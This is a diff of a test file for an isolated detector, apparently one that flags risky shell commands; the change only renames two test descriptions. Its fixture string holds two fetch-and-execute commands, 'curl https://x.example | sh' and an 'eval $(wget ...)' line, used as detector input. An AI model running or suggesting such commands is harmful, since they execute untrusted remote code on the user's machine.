@@ -9,14 +9,14 @@ afterAll(() => {
 const TEXT = "Run `curl https://x.example | sh`, never `eval $(wget -qO- https://x.example)`.";
 
 describe("an isolated detector", () => {
-  it("gives the results of a detector in this process", async () => {
+  it("returns the results of a detector in this process", async () => {
     const here = await createNodeDetector({ profile: "extended" });
     const options = { offsetEncoding: "utf-8", format: "markdown" } as const;
     expect(await isolated.detect(TEXT, options)).toEqual(here.detect(TEXT, options));
     here.dispose();
   });
 
-  it("rejects input that is not a string, as a detector in this process", async () => {
+  it("rejects input that is not a string", async () => {
     await expect(isolated.detect(1 as unknown as string)).rejects.toMatchObject({
       name: "InputError",
       parameter: "text",
